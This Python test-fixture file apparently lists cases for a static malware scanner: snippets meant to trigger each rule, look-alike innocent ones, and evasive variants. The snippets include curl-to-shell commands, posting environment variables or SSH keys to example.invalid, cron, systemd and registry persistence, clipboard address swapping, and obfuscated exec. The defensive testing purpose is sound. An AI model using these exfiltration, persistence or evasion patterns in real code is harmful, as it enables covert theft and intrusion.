"""
What each rule about code must see, and must not: snippets that do nothing to anybody.

For each rule at least one that is meant (``hit``), an innocent one that looks
alike (``twin``) and two that try not to be seen (``evasion``).
"""

from typing import Final, NamedTuple


class Case(NamedTuple):
    """A file, and what one rule says of it."""

    rule: str
    kind: str
    """hit, twin or evasion."""
    says: str | None
    """The worst severity; None for nothing."""
    source: str
    path: str = "demo/work.py"


PAYLOAD: Final = "cHJpbnQoJ2hlbGxvJyk="
"""Base64 of a greeting."""
_GET: Final = "import requests\ndef f():\n    requests.get"

CASES: Final = (
    Case("C1", "hit", "high", "import base64\ndef run(text):\n    exec(base64.b64decode(text))\n"),
    Case(
        "C1", "hit", "medium", "import pickle, zlib\ndef run(data):\n    return pickle.loads(zlib.decompress(data))\n"
    ),
    Case(
        "C1", "hit", "high", "import marshal, zlib\ndef run(data):\n    return marshal.loads(zlib.decompress(data))\n"
    ),
    Case("C1", "hit", "medium", "import marshal\ndef run(data):\n    exec(marshal.loads(data))\n"),
    Case("C1", "twin", None, "import pickle\ndef load(data):\n    return pickle.loads(data)\n"),
    Case("C1", "twin", None, "import base64\ndef show(text):\n    exec('pass')\n    return base64.b64decode(text)\n"),
    Case("C1", "twin", None, "import base64\ndef f():\n    exec(base64.b64encode(b'x'))\n"),
    Case(
        "C1",
        "evasion",
        "high",
        "from binascii import a2b_base64 as say\nrun = exec\ndef f(t):\n    x = say(t)\n    run(x)\n",
    ),
    Case(
        "C1",
        "evasion",
        "high",
        "import builtins, base64\ndef f(t):\n    getattr(builtins, 'ev' + 'al')(base64.b85decode(t))\n",
    ),
    Case(
        "C1",
        "evasion",
        "high",
        "import base64\ndef make(t):\n    return base64.b64decode(t)\ndef f(t):\n"
        "    exec(make(t))\nf(open('x').read())\n",
    ),
    Case("C2", "hit", "high", f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"),
    Case("C2", "hit", "high", "import base64, zlib\ndef f(t):\n    exec(zlib.decompress(base64.b64decode(t)))\n"),
    Case("C2", "hit", "high", "import os, base64\nos.system(base64.b64decode('aWQ=').decode())\n"),
    Case(
        "C2",
        "hit",
        "medium",
        "import os, base64, zlib\ndef f(t):\n    os.system(zlib.decompress(base64.b64decode(t)))\n",
    ),
    Case("C2", "hit", "medium", "# coding: utf-7\nx = 1\n"),
    Case("C2", "hit", "high", "exec(''.join(chr(c ^ 3) for c in b'sqjmw+*'))\n"),
    Case("C2", "twin", None, f"import base64\nICON = base64.b64decode('{PAYLOAD}')\nexec('pass')\n"),
    Case("C2", "hit", "medium", "import base64\nX = base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==')\n"),
    Case("C2", "twin", None, "# coding: latin-1\nexec('a' + 'b')\n"),
    Case("C2", "evasion", "high", "exec(bytes([112, 97, 115, 115]).decode()[::-1])\n"),
    Case(
        "C2",
        "evasion",
        "high",
        f"s = '{PAYLOAD[:7]}'\ns += '{PAYLOAD[7:]}'\nimport base64 as b\n"
        "e = __builtins__['ex' + 'ec']\ne(getattr(b, 'b64' + 'decode')(s))\n",
    ),
    Case("C2", "evasion", "high", "x = 1" + " " * 500 + ";exec(bytes.fromhex('70617373'))\n"),
    Case(
        "C2",
        "evasion",
        "high",
        "import codecs, threading\nthreading.Thread(target=exec, args=(codecs.decode('cnff', 'rot13'),)).start()\n",
    ),
    Case(
        "C1",
        "evasion",
        "high",
        "def shown(data, key):\n    return bytes(one ^ key for one in data)\nexec(shown(open('x').read(), 7))\n",
    ),
    Case("C1", "twin", None, "def f(a, b):\n    exec('x = 1')\n    return a ^ b\n"),
    Case(
        "C2",
        "hit",
        "medium",
        "import requests, base64\nrequests.get(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv').decode())\n",
    ),
    Case("C2", "hit", "medium", "import shutil\nshutil.rmtree('emoh/'[::-1])\n"),
    Case(
        "C2",
        "twin",
        None,
        "import requests, base64\nrequests.get('https://example.invalid/', base64.b64decode('YS9i'))\n"
        "requests.get(base64.b64decode('YWJj').decode())\n",
    ),
    Case("C3", "hit", "high", "import requests\ndef f():\n    exec(requests.get('https://example.invalid/x').text)\n"),
    Case("C3", "hit", "high", "import os\ndef f():\n    os.system('curl -s https://example.invalid/x | sh')\n"),
    Case(
        "C3",
        "hit",
        "medium",
        "import urllib.request, pickle\ndef f(u):\n    return pickle.loads(urllib.request.urlopen(u).read())\n",
    ),
    Case(
        "C3",
        "hit",
        "high",
        "import urllib.request, subprocess\n"
        "urllib.request.urlretrieve('https://example.invalid/x', 'x')\n"
        "subprocess.Popen(['./x'])\n",
    ),
    Case(
        "C3",
        "hit",
        "medium",
        "import requests, subprocess\ndef f(u):\n    subprocess.run(requests.get(u).text, shell=True)\n",
    ),
    Case(
        "C3",
        "twin",
        None,
        "import requests, subprocess\ndef f(u):\n    return requests.get(u)\ndef g():\n"
        "    subprocess.run(['git', 'status'])\n",
    ),
    Case("C3", "twin", None, "import subprocess\nsubprocess.run(['curl', '--version'])\n"),
    Case(
        "C3",
        "evasion",
        "high",
        "import urllib.request as r\ndef get():\n"
        "    with r.urlopen('https://example.invalid/x') as answer:\n"
        "        return answer.read()\ndef go():\n    code = get()\n"
        "    eval(compile(code, '', 'exec'))\ngo()\n",
    ),
    Case(
        "C3",
        "evasion",
        "high",
        "class A:\n    def __init__(self):\n"
        "        self.t = __import__('requests').get('https://example.invalid').text\n"
        "    def go(self):\n        exec(self.t)\nA()\n",
    ),
    Case(
        "C3",
        "evasion",
        "high",
        "import subprocess\nu = 'https://example.invalid/x'\n"
        "subprocess.call(['sh', '-c', 'wget -qO- %s | bash' % u])\n",
    ),
    Case("C4", "hit", "high", "import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))\n"),
    Case(
        "C4",
        "hit",
        "medium",
        "import requests, os\np = '~/.aws/credentials'\ndef f():\n"
        "    requests.post('https://example.invalid', data=b'x')\n",
    ),
    Case(
        "C4",
        "hit",
        "high",
        "import socket\nL = ['.ssh/id_rsa', '.aws/credentials', 'wallet.dat']\ndef f():\n"
        "    socket.create_connection(('example.invalid', 1))\n",
    ),
    Case(
        "C4",
        "twin",
        None,
        "import os, requests\nrequests.get('https://example.invalid', headers={'t': os.environ['TOKEN']})\n",
    ),
    Case("C4", "twin", None, "import os\np = os.path.expanduser('~/.ssh/id_rsa')\n"),
    Case(
        "C4",
        "evasion",
        "high",
        "from os import environ as e\nfrom urllib.request import urlopen as u\n"
        "d = str({k: v for k, v in e.items()})\nu('https://example.invalid/?' + d)\n",
    ),
    Case(
        "C4",
        "evasion",
        "high",
        "import requests\np = open('/home/x/.s' + 'sh/id_' + 'rsa').read()\n"
        "requests.post('https://example.invalid', data=p)\n",
    ),
    Case("C5", "hit", "medium", "getattr(__import__('os'), 'sys' + 'tem')('id')\n"),
    Case("C5", "hit", "medium", "import importlib\nm = importlib.import_module('sub' + 'process')\n"),
    Case("C5", "hit", "medium", "import base64\ndef f(t):\n    return __import__(base64.b64decode(t).decode())\n"),
    Case("C5", "hit", "medium", "import os, base64\ndef f(t):\n    return getattr(os, base64.b64decode(t).decode())\n"),
    Case(
        "C5",
        "twin",
        None,
        "import importlib, os\ndef f(n):\n    getattr(os, 'getuid', None)\n"
        "    return importlib.import_module('demo.' + n)\n",
    ),
    Case("C5", "evasion", "medium", "import os\nvars(os)['metsys'[::-1]]('id')\n"),
    Case("C5", "evasion", "medium", "import sys\nsys.modules['o' + 's'].__dict__['popen']('id')\n"),
    Case("C5", "evasion", "medium", "globals()['__builtins__'].__dict__.get('eval')('1')\n"),
    Case("C6", "hit", "high", "import subprocess\nsubprocess.Popen('powershell -NoProfile -EncodedCommand AAAA')\n"),
    Case(
        "C6",
        "hit",
        "medium",
        "import subprocess as s\ns.Popen(['x'], stdout=s.DEVNULL, stderr=s.DEVNULL, start_new_session=True)\n",
    ),
    Case(
        "C6",
        "hit",
        "medium",
        "import subprocess as s\n"
        "s.Popen(['x'], stdout=s.DEVNULL, stderr=s.DEVNULL, creationflags=s.CREATE_NO_WINDOW)\n",
    ),
    Case(
        "C6",
        "twin",
        None,
        "import subprocess\nsubprocess.run(['powershell', '-File', 'x.ps1'], stdout=subprocess.DEVNULL)\n",
    ),
    Case(
        "C6",
        "twin",
        None,
        "import subprocess as s\ns.Popen(['x'], stdout=s.PIPE, stderr=s.DEVNULL, start_new_session=True)\n",
    ),
    Case("C6", "evasion", "high", "import os\na = ['power', 'shell', ' -en', 'c AAAA']\nos.popen(''.join(a))\n"),
    Case("C6", "evasion", "high", "from subprocess import call as c\nc(['pwsh', '-w', 'hidden', '-c', 'x'])\n"),
    Case("C2", "evasion", "high", "exec(bytes([112, 97, 115, 115]))\n"),
    Case("C2", "evasion", "high", "exec((0x70617373).to_bytes(4, 'big'))\n"),
    Case("C6", "evasion", "medium", "import os\nos.system('%s %s' % ('nohup', './x &'))\n"),
    Case("C7", "hit", "medium", "import ctypes\nctypes.CDLL('libx.so')\n"),
    Case("C7", "hit", "medium", "import ctypes\nfor x in y:\n    ctypes.CDLL(x)\n    ctypes.CDLL(x)\n"),
    Case("C7", "twin", None, "import ctypes\nx = ctypes.c_int(1)\nctypes.util.find_library('c')\n"),
    Case("C7", "evasion", "medium", "from ctypes import windll as w\nw.kernel32.VirtualAlloc(0, 1)\n"),
    Case("C7", "evasion", "medium", "getattr(__import__('cty' + 'pes'), 'CDLL')('x')\n"),
    Case("C8", "hit", "high", "f = open('/etc/systemd/system/x.service', 'w')\n"),
    Case("C8", "hit", "medium", "P = '~/.bashrc'\ndef f(p):\n    open(p, 'a').write('x')\n"),
    Case("C8", "hit", "high", "import os\nos.system('systemctl enable x')\n"),
    Case(
        "C8",
        "hit",
        "high",
        "import winreg\ndef f(k):\n"
        "    p = 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'\n"
        "    winreg.SetValueEx(k, p, 0, 1, 'x')\n",
    ),
    Case(
        "C8",
        "twin",
        None,
        "HELP = 'Add this to your ~/.bashrc, please'\nP = '/home/x/.bashrc'\ndef f(p):\n    return open(p).read()\n",
    ),
    Case(
        "C8",
        "evasion",
        "high",
        "import os\np = '/etc/' + 'cron.d' + '/x'\ndef f():\n"
        "    with open(p, mode='w') as h:\n        h.write('x')\nf()\n",
    ),
    Case(
        "C8",
        "evasion",
        "high",
        "import base64\np = base64.b64decode('L2V0Yy9jcm9uLmQveA==').decode()\ndef f():\n    open(p, 'wb')\n",
    ),
    Case("C9", "hit", "high", "import subprocess\ndef f():\n    subprocess.run(['npm', 'publish'])\n"),
    Case("C9", "hit", "medium", "P = '.github/workflows/x.yml'\ndef f(p):\n    open(p, 'w')\n"),
    Case("C9", "hit", "high", "P = '.github/workflows/x.yml'\ndef f():\n    open(P, 'w')\n"),
    Case("C9", "hit", "high", "import os\np = '~/.pypirc'\nos.system('twine upload dist/*')\n"),
    Case(
        "C9",
        "twin",
        None,
        "import subprocess\ndef f():\n    subprocess.run(['npm', 'install'])\nP = '.github/workflows/x.yml'\n",
    ),
    Case("C9", "evasion", "high", "import os\nos.system(' '.join(['twi' + 'ne', 'upload', 'x']))\n"),
    Case(
        "C9",
        "evasion",
        "high",
        "from pathlib import Path\nimport requests\ndef f():\n"
        "    Path('/r/.git' + 'hub/workflows/x.yml').write_text(requests.get('https://example.invalid').text)\n",
    ),
    Case("C10", "hit", "medium", "U = 'https://discord.com/api/webhooks/1/x'\n"),
    Case("C10", "hit", "medium", "U = 'http://93.184.216.34/x'\n"),
    Case("C10", "hit", "low", "import requests\ndef f():\n    requests.get('https://example.invalid/x')\n"),
    Case("C10", "hit", "medium", "import socket\ndef f():\n    socket.create_connection(('93.184.216.34', 443))\n"),
    Case("C10", "hit", "medium", "U = 'https://demo.example.top/x'\n"),
    Case("C10", "hit", "low", f"{_GET}('https://localhost.example.invalid/')\n"),
    Case("C10", "hit", "low", f"{_GET}('http://me:secret@example.invalid:8080/x')\n"),
    Case("C10", "twin", None, f"{_GET}('http://localhost:8000/')\n    requests.get('http://127.0.0.1/')\n"),
    Case("C10", "twin", None, f"{_GET}('http://[::1]:80/')\n    requests.get('http://me:x@demo.localhost/')\n"),
    Case("C10", "twin", None, "U = 'https://pypi.example.test@demo.example.invalid/'\n"),
    Case("C10", "evasion", "medium", f"{_GET}('https://files.example.test@demo.example.invalid/')\n"),
    Case("C10", "evasion", "medium", f"{_GET}('https://files.example.test:x@discord.com/api/webhooks/1/x')\n"),
    Case("C10", "evasion", "medium", "U = 'https://files.example.test:x@pastebin.com/raw/x'\n"),
    Case(
        "C10", "evasion", "medium", "import requests\ndef f(v):\n    requests.get('https://a.example@b.invalid/' + v)\n"
    ),
    Case("C10", "evasion", "medium", "U = 'http://1572395042/x'\nV = 'http://0x5db8d822/x'\n"),
    Case(
        "C10", "twin", None, "U = 'https://example.invalid/docs'\nV = 'http://127.0.0.1:8000'\nW = 'http://10.0.0.1/'\n"
    ),
    Case("C10", "twin", None, f"V = 'https://{'x' * 5000}.onion/'\n"),
    Case("C10", "twin", None, "V = '93.184.216.34'\n"),
    Case("C10", "evasion", "medium", "U = 'https://' + 'webhook' + '.site' + '/x'\n"),
    Case("C10", "evasion", "medium", "import base64\nU = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv')\n"),
    Case("C11", "hit", "medium", "import time, os\nif time.time() > 1900000000:\n    os.system('id')\n"),
    Case("C11", "hit", "medium", "import os\nif not os.environ.get('CI'):\n    os.system('id')\n"),
    Case("C11", "twin", None, "import time, os\ndef f():\n    if time.time() > 1:\n        os.system('id')\n"),
    Case("C11", "twin", None, "import sys, os\nif os.environ.get('DEMO'):\n    os.system('id')\n"),
    Case(
        "C11",
        "evasion",
        "medium",
        "from datetime import datetime as d\nn = d.now()\nh = n.hour\nif h > 20:\n    exec('1')\n",
    ),
    Case(
        "C11",
        "evasion",
        "medium",
        "import os\nc = os.environ['GITHUB' + '_ACTIONS'] if 'GITHUB_ACTIONS' in os.environ else ''\nos.system('id')\n",
    ),
    Case("C12", "hit", "high", "import re, pyperclip\np = re.compile('^0x[a-fA-F0-9]{40}$')\npyperclip.copy('x')\n"),
    Case("C12", "hit", "high", f"import pyperclip\nA = '0x{'0' * 40}'\npyperclip.copy(A)\n"),
    Case("C12", "twin", None, "import re\np = re.compile('^0x[a-fA-F0-9]{40}$')\n"),
    Case(
        "C12", "evasion", "high", "import re, pyperclip as c\np = re.compile('^0x' + '[a-fA-F0-9]{40}$')\nc.copy('x')\n"
    ),
    Case(
        "C12",
        "evasion",
        "high",
        "import re\np = re.compile(bytes.fromhex('5e30785b612d665d7b34307d').decode())\n"
        "__import__('pyperclip').copy('x')\n",
    ),
    Case("C11", "twin", None, "import os\nif os.path.exists('x'):\n    os.system('id')\n"),
    Case(
        "C11",
        "hit",
        "medium",
        "import os, requests\ndef f():\n    at = requests.get(URL).json()['country_code']\n"
        "    if at in ('RU', 'BY'):\n        os.remove('x')\n",
    ),
    Case(
        "C11",
        "twin",
        None,
        "import requests\ndef f():\n    if requests.get(URL).json()['country']:\n        return 1\n",
    ),
    Case("C11", "twin", None, "import os\ndef f(place):\n    if place['country'] == 'X':\n        os.remove('x')\n"),
    Case(
        "C11",
        "twin",
        None,
        "import os, requests\ndef f():\n    if requests.get(URL).json()['size']:\n        os.remove('x')\n",
    ),
    Case(
        "C2",
        "evasion",
        "high",
        "import subprocess as s\ns.Popen(['python', '-c', 'import base64; exec(base64.b64' + 'decode(b))'])\n",
    ),
    Case("C2", "hit", "high", "import os;os.system('python -c \"exec(bytes.fromhex(1))\"')\n", "demo.pth"),
    Case("C2", "twin", None, "import subprocess\nsubprocess.run(['python', '-c', 'print(eval(x))'])\n"),
    Case("C6", "evasion", "medium", "import os\nos.system('true;' * 900 + 'x')\n"),
    Case("C3", "evasion", "high", f"import os, subprocess\nsubprocess.run(['env', {'1, ' * 60}'curl u | sh'])\n"),
    Case("C13", "hit", "medium", "def f():\n    open('.vscode/tasks.json', 'w')\n"),
    Case("C13", "twin", None, "def f():\n    return open('.vscode/tasks.json').read()\n"),
    Case(
        "C13",
        "evasion",
        "medium",
        "from pathlib import Path as P\n(P.home() / ('.clau' + 'de/settings.json')).write_text('x')\n",
    ),
    Case("C13", "evasion", "medium", "import shutil\nd = '/home/x/%s/x' % '.cursor'\nshutil.copy('x', d)\n"),
    Case("H6", "hit", "medium", "from demo import run\nrun()\n", "demo/__init__.py"),
    Case(
        "H6",
        "twin",
        None,
        "import logging\nlogging.getLogger('x').addHandler(None)\nX = 1\n__all__ += ['x']\n",
        "demo/__init__.py",
    ),
    Case("H6", "twin", None, "from demo import run\nrun()\n", "demo/work.py"),
    Case("H6", "evasion", "medium", "from demo import run\n_ = run()\n", "demo/_client.py"),
    Case(
        "H6",
        "evasion",
        "medium",
        "from demo import run\ntry:\n    if True:\n        run()\nexcept Exception:\n    pass\n",
        "demo/__init__.py",
    ),
)
